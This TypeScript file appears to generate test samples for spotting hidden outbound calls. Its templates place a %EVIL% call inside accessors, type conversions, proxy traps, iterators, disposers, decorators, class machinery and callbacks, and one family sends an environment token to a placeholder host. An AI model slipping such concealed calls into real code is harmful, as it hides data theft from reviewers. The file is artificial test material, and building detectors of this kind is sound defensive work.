import type { FamilySpec } from './families.ts'
import { evil } from './services.ts'

/** The call stands where nobody looks for one: in an accessor, a conversion, an iterator, a decorator. */
export const EFFECTS_HIDDEN_CALLS: FamilySpec[] = [
  {
    family: 'accessor-sends',
    js: [
      `%HEAD%\nconst report = { get total() { %EVIL%; return 0 } }\n%LIST%\nconsole.log(report.total)`,
      `%HEAD%\nclass Report { set title(text) { this.text = text; %EVIL% } }\n%LIST%\nnew Report().title = 'Monthly'`,
      `%HEAD%\nconst report = Object.defineProperty({}, 'rows', { enumerable: true, get: () => %EVIL% })\n%LIST%\nconsole.log({ ...report })`,
      `%HEAD%\nconst options = { headers, get method() { %EVIL%; return 'GET' } }\nconsole.log((await fetch(api + '%READ%', options)).status)`,
    ],
    py: [
      '%HEAD%\n\nclass Report:\n    @property\n    def total(self):\n        %EVIL%\n        return 0\n\n%LIST%\nprint(Report().total)',
      '%HEAD%\n\nclass Field:\n    def __get__(self, owner, kind):\n        %EVIL%\n        return 0\n\nclass Report:\n    total = Field()\n\n%LIST%\nprint(Report.total)',
      '%HEAD%\n\nclass Report:\n    def __setattr__(self, name, value):\n        %EVIL%\n\n%LIST%\nReport().title = "Monthly"',
      '%HEAD%\n\nclass Report:\n    def __getattr__(self, name):\n        return %EVIL%\n\n%LIST%\nprint(Report().total)',
    ],
    times: 1,
  },
  {
    family: 'conversion-sends',
    js: [
      `%HEAD%\nconst title = { toString() { %EVIL%; return 'Report' } }\n%LIST%\nconsole.log(\`\${title}\`)`,
      `%HEAD%\nconst total = { valueOf() { %EVIL%; return 1 } }\n%LIST%\nconsole.log(total + 1)`,
      `%HEAD%\nconst total = { [Symbol.toPrimitive]: () => (%EVIL%, 1) }\n%LIST%\nconsole.log(+total)`,
      `%HEAD%\nconst row = { toJSON() { %EVIL%; return {} } }\n%LIST%\nconsole.log(JSON.stringify(row))`,
      `%HEAD%\n%LIST%\nconsole.log({ [{ toString: () => (%EVIL%, 'sum') }]: 1 })`,
    ],
    py: [
      '%HEAD%\n\nclass Title:\n    def __str__(self):\n        %EVIL%\n        return "Report"\n\n%LIST%\nprint(f"{Title()}")',
      '%HEAD%\n\nclass Total:\n    def __format__(self, style):\n        %EVIL%\n        return "1"\n\n%LIST%\nprint(f"{Total():>4}")',
      '%HEAD%\n\nclass Flag:\n    def __bool__(self):\n        %EVIL%\n        return False\n\n%LIST%\nif Flag():\n    print("live")',
      '%HEAD%\n\nclass Total(int):\n    def __add__(self, other):\n        %EVIL%\n        return 1\n\n%LIST%\nprint(Total(1) + 1)',
    ],
    times: 1,
  },
  {
    family: 'proxy-trap-sends',
    js: [
      `%HEAD%\nconst view = new Proxy({}, { get: () => %EVIL% })\n%LIST%\nview.total`,
      `%HEAD%\nconst view = new Proxy({}, { has: () => { %EVIL%; return true } })\n%LIST%\nconsole.log('total' in view)`,
      `%HEAD%\nconst view = new Proxy(() => {}, { apply: () => %EVIL% })\n%LIST%\nview()`,
      `%HEAD%\nconst { proxy } = Proxy.revocable({}, { ownKeys: () => { %EVIL%; return [] } })\n%LIST%\nconsole.log(Object.keys(proxy))`,
    ],
  },
  {
    family: 'iterator-sends',
    js: [
      `%HEAD%\nconst rows = { *[Symbol.iterator]() { %EVIL%; yield 1 } }\n%LIST%\nconsole.log([...rows].length)`,
      `%HEAD%\nasync function* pages() { yield await (await fetch(api + '%READ%', { headers })).json(); yield await %EVIL% }\nfor await (const page of pages()) console.log(typeof page)`,
      `%HEAD%\nfunction* rows() { try { yield 1 } finally { %EVIL% } }\n%LIST%\nfor (const row of rows()) break`,
      `%HEAD%\nconst rows = { [Symbol.asyncIterator]: () => ({ next: async () => (await %EVIL%, { done: true }) }) }\n%LIST%\nfor await (const row of rows) console.log(row)`,
    ],
    py: [
      '%HEAD%\n\ndef rows():\n    yield 1\n    %EVIL%\n\n%LIST%\nprint(list(rows()))',
      '%HEAD%\n\nclass Rows:\n    def __iter__(self):\n        %EVIL%\n        return iter(())\n\n%LIST%\nprint(*Rows())',
      '%HEAD%\n\ndef rows():\n    try:\n        yield 1\n    finally:\n        %EVIL%\n\n%LIST%\nnext(rows())',
    ],
    times: 1,
  },
  {
    family: 'thenable-sends',
    js: [
      `%HEAD%\n%LIST%\nawait { then(resolve) { %EVIL%.then(resolve) } }`,
      `%HEAD%\nclass Result { then(done) { %EVIL%; done(1) } }\n%LIST%\nconsole.log(await new Result())`,
      `%HEAD%\nconst count = async () => ({ then: (done) => done(%EVIL%) })\n%LIST%\nconsole.log(typeof (await count()))`,
    ],
    py: [
      '%HEAD%\nimport asyncio\n\nclass Result:\n    def __await__(self):\n        %EVIL%\n        yield\n\nasync def main():\n    await Result()\n\n%LIST%\nasyncio.run(main())',
    ],
  },
  {
    family: 'disposal-sends',
    runtimes: ['deno', 'node'],
    js: [
      `%HEAD%\n%LIST%\n{\n  using lock = { [Symbol.dispose]() { %EVIL% } }\n}`,
      `%HEAD%\n%LIST%\n{\n  await using lock = { async [Symbol.asyncDispose]() { await %EVIL% } }\n}`,
      `%HEAD%\nnew FinalizationRegistry(() => %EVIL%).register({}, 1)\n%LIST%`,
    ],
    py: [
      '%HEAD%\n\nclass Timer:\n    def __enter__(self):\n        return self\n    def __exit__(self, *about):\n        %EVIL%\n\nwith Timer():\n    print("counted")',
      '%HEAD%\n\nclass Timer:\n    def __del__(self):\n        %EVIL%\n\nTimer()\n%LIST%',
      '%HEAD%\nfrom contextlib import ExitStack\n\nwith ExitStack() as stack:\n    stack.callback(lambda: %EVIL%)\n%LIST%',
    ],
    times: 1,
  },
  {
    family: 'tag-sends',
    js: [
      `%HEAD%\nconst html = (parts, ...values) => { %EVIL%; return parts.join('') }\n%LIST%\nconsole.log(html\`<b>Total</b>\`)`,
      `%HEAD%\nconst send = ([path], method) => fetch(api + path, { method, headers })\n%LIST%\nawait send\`%PATH%\${'%METHOD%'}\``,
    ],
    times: 3,
  },
  {
    family: 'decorator-sends',
    runtimes: ['deno'],
    js: [
      `%HEAD%\nconst cached = (target: unknown, context: unknown) => { %EVIL% }\n@cached\nclass Report { rows = 1 }\n%LIST%\nconsole.log(new Report())`,
      `%HEAD%\nfunction timed(target: unknown, context: unknown) { %EVIL% }\nclass Report { @timed total() { return 0 } }\n%LIST%\nconsole.log(new Report().total())`,
    ],
    py: [
      '%HEAD%\n\ndef cached(function):\n    %EVIL%\n    return function\n\n@cached\ndef total(rows):\n    return len(rows)\n\n%LIST%',
      '%HEAD%\n\n@lambda function: %EVIL%\ndef total(rows):\n    return len(rows)\n\n%LIST%',
    ],
  },
  {
    family: 'class-machinery-sends',
    js: [
      `%HEAD%\nclass Report { static rows = %EVIL%; total() { return 0 } }\n%LIST%\nconsole.log(new Report().total())`,
      `%HEAD%\nclass Report { static { %EVIL% } }\n%LIST%\nconsole.log(Report.name)`,
      `%HEAD%\nclass Report { #rows = %EVIL% }\n%LIST%\nconsole.log(typeof new Report())`,
      `%HEAD%\nclass View { method = 'GET'; load() { return fetch(api + '%PATH%', { method: this.method, headers }) } }\nclass Count extends View { method = '%METHOD%' }\n%LIST%\nawait new Count().load()`,
      `%HEAD%\nclass Report extends (%EVIL%, Object) {}\n%LIST%\nconsole.log(new Report())`,
      `%HEAD%\nclass Even { static [Symbol.hasInstance]() { %EVIL%; return true } }\n%LIST%\nconsole.log(1 instanceof Even)`,
    ],
    py: [
      '%HEAD%\n\nclass Kind(type):\n    def __new__(kind, name, bases, body):\n        %EVIL%\n        return super().__new__(kind, name, bases, body)\n\nclass Report(metaclass=Kind):\n    pass\n\n%LIST%',
      '%HEAD%\n\nclass Base:\n    def __init_subclass__(cls):\n        %EVIL%\n\nclass Report(Base):\n    pass\n\n%LIST%',
      '%HEAD%\n\nclass Report:\n    total: %EVIL% = 0\n\n%LIST%',
      '%HEAD%\n\nclass Report(object if %EVIL% else object):\n    pass\n\n%LIST%',
    ],
    times: 1,
  },
  {
    family: 'callback-position-sends',
    js: [
      `%HEAD%\n%LIST%\n'Report'.replace(/R/, () => %EVIL%)`,
      `%HEAD%\n%LIST%\n;[2, 1].sort(() => (%EVIL%, 0))`,
      `%HEAD%\n%LIST%\nJSON.parse('{"a":1}', (key, value) => (%EVIL%, value))`,
      `%HEAD%\n%LIST%\nArray.from({ length: 1 }, () => %EVIL%)`,
      `%HEAD%\n%LIST%\nJSON.stringify({ a: 1 }, () => void %EVIL%)`,
      `%HEAD%\n%LIST%\nnew Promise((done) => done(%EVIL%))`,
    ],
    py: [
      '%HEAD%\nimport re\n%LIST%\nre.sub("R", lambda match: str(%EVIL%), "Report")',
      '%HEAD%\n%LIST%\nsorted([1], key=lambda row: (%EVIL%, 0)[1])',
      '%HEAD%\n%LIST%\njson.loads(\'{"a": 1}\', object_hook=lambda row: %EVIL%)',
      '%HEAD%\n%LIST%\nrows = [page for page in range(1) if (sent := %EVIL%)]',
    ],
    times: 1,
  },
  {
    family: 'with-statement',
    runtimes: ['node'],
    js: [
      `const headers = { authorization: 'Bearer ' + %ENV% }\nwith ({ method: '%METHOD%', path: '%PATH%' }) {\n  fetch('https://%HOST%' + path, { method: method, headers: headers })\n}`,
      `const method = 'GET'\nconst settings = { method: '%METHOD%' }\nwith (settings) fetch('https://%HOST%%PATH%', { method, headers: { authorization: 'Bearer ' + %ENV% } })`,
    ],
    times: 3,
    tells: (s) => ({ danger: ['unreadable_code'], sends: [evil(s)] }),
  },
  {
    family: 'assertion-and-annotation-python',
    py: [
      '%HEAD%\n\ndef total(rows: %EVIL%) -> int:\n    return len(rows)\n\n%LIST%',
      '%HEAD%\n%LIST%\nassert %EVIL%, "no answer"',
      '%HEAD%\n%LIST%\nrow: %EVIL% = 1',
      '%HEAD%\n%LIST%\nprint("total %d" % len([%EVIL%]))',
      '%HEAD%\n%LIST%\nlambda_total = (lambda rows: len(rows))([%EVIL%])',
    ],
    times: 1,
  },
]
